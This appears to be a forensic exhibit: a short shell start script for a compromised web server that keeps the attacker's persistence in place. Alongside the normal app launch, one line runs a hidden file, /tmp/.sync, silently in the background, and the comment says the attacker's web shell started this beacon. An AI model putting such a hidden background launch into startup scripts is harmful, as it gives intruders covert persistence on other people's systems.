#!/bin/sh
# The web server's start, with what the attacker left running: the beacon that their web
# shell started at 03:10:41 (nohup /bin/sh /tmp/.sync).
nohup /bin/sh /tmp/.sync >/dev/null 2>&1 &
exec python3 /srv/app/app.py
